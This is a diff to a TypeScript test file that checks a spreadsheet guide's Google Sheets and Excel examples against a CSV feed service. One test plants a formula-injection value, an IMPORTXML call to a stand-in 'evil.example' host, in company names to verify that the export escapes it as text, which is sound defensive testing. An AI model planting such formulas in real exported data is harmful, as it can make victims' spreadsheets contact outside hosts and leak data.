@@ -1,7 +1,6 @@
-// The guide to spreadsheets: what its formulas and queries request, fetched as Google Sheets and Excel fetch it, has the
-// columns that they name.
+// The guide to spreadsheets: the responses to its formulas and queries, fetched as Google Sheets and Excel fetch them,
+// have the columns that they name.
 import { once } from "node:events";
-import { readFileSync } from "node:fs";
 import { createServer, type Server } from "node:http";
 import type { AddressInfo } from "node:net";
 import { join } from "node:path";
@@ -10,14 +9,13 @@ import { afterAll, beforeAll, expect, it } from "vitest";
 import { createFeed } from "../../src/accounts/feeds.ts";
 import { packageRoot } from "../../src/lib/package-root.ts";
 import { type Service, startSeededService, unlimitedKey } from "../support/service.ts";
+import { codeBlocks } from "./examples.ts";
 
-const guide = readFileSync(join(packageRoot, "docs/guides/spreadsheets.md"), "utf8");
-const blocks = (language: string) =>
-  [...guide.matchAll(new RegExp(`^\`\`\`${language}\\n(.*?)^\`\`\``, "gms"))].map(([, text = ""]) => text);
+const guide = join(packageRoot, "docs/guides/spreadsheets.md");
 
 let service: Service;
-/** a server that redirects to the service, as one does whose http address leads to https */
-let door: Server;
+/** a server that redirects to the service, as http addresses usually redirect to https */
+let redirecting: Server;
 let feed: string;
 beforeAll(async () => {
   service = await startSeededService();
@@ -25,41 +23,40 @@ beforeAll(async () => {
   const input = { account: accountId, list: "trades", filters: "tradeTypes=P", name: "Sheet", actor: "test" } as const;
   const { token } = await createFeed(service.store, input);
   feed = `/feeds/${token}.csv`;
-  door = createServer((request, response) =>
+  redirecting = createServer((request, response) =>
     response.writeHead(301, { location: `${service.base}${request.url}` }).end(),
   ).listen(0, "127.0.0.1");
-  await once(door, "listening");
+  await once(redirecting, "listening");
 });
 afterAll(async () => {
-  door.close();
+  redirecting.close();
   await service.stop();
 });
 
-/** Without a key or a header of its own, and along the redirect. */
-async function fetched(path: string): Promise<string[][]> {
-  const address = `http://127.0.0.1:${(door.address() as AddressInfo).port}${path}`;
+/** The rows of a CSV file, fetched without a key or headers of its own through the redirect. */
+async function fetchTable(path: string): Promise<string[][]> {
+  const address = `http://127.0.0.1:${(redirecting.address() as AddressInfo).port}${path}`;
   const response = await fetch(address, { headers: { accept: "*/*", "user-agent": "Mozilla/5.0 (compatible)" } });
-  expect([response.status, response.headers.get("content-type")]).toEqual([
-    ...[200, expect.stringMatching(/^text\/csv; charset=utf-8/)],
-  ]);
+  expect(response.status).toBe(200);
+  expect(response.headers.get("content-type")).toMatch(/^text\/csv; charset=utf-8/);
   return parse(await response.text()) as string[][];
 }
 
-/** The names in `{"filing_date", type date}`. */
+/** Column names and types, as in `{"filing_date", type date}`. */
 const typed = (query: string) => [...query.matchAll(/\{"(\w+)", type (\w+)\}/g)].map(([, name, type]) => [name, type]);
 
-it("Google Sheets gets the feed without a key, and the guide's numbers are those of the columns", async () => {
-  const [first = "", second = ""] = blocks("text");
+it("Google Sheets gets the feed without a key, and the guide's column numbers are correct", async () => {
+  const [first = "", second = ""] = await codeBlocks(guide, "text");
   expect(first).toContain("/feeds/<token>.csv");
-  const [header = [], ...rows] = await fetched(feed);
+  const [header = [], ...rows] = await fetchTable(feed);
   expect(rows.length).toBeGreaterThan(0);
   const chosen = [...second.matchAll(/Col(\d+)/g)].map(([, number]) => header[Number(number) - 1]);
   expect(chosen).toEqual(["filing_date", "ticker", "company_name", "insider_name", "value"]);
 });
 
 it("Excel gets the feed and, with the key, the list, with the columns that the queries convert", async () => {
-  const [ofFeed = "", ofList = ""] = blocks("powerquery");
-  const [header = []] = await fetched(feed);
+  const [ofFeed = "", ofList = ""] = await codeBlocks(guide, "powerquery");
+  const [header = []] = await fetchTable(feed);
   expect(typed(ofFeed).length).toBeGreaterThan(0);
   expect(typed(ofFeed).filter(([name]) => !header.includes(name ?? ""))).toEqual([]);
   const [, path] = /RelativePath = "([^"]+)"/.exec(ofList) ?? [];
@@ -79,10 +76,10 @@ it("Excel gets the feed and, with the key, the list, with the columns that the q
   }
 });
 
-it("a name that is a formula is text in the sheet", async () => {
+it("a name that looks like a formula is escaped as text", async () => {
   const before = await service.store.pool.query("SELECT cik, name FROM companies");
   await service.store.pool.query(`UPDATE companies SET name = '=IMPORTXML("https://evil.example", "//a")'`);
-  const [header = [], ...rows] = await fetched(feed);
+  const [header = [], ...rows] = await fetchTable(feed);
   const names = new Set(rows.map((row) => row[header.indexOf("company_name")]));
   for (const { cik, name } of before.rows)
     await service.store.pool.query("UPDATE companies SET name = $2 WHERE cik = $1", [cik, name]);
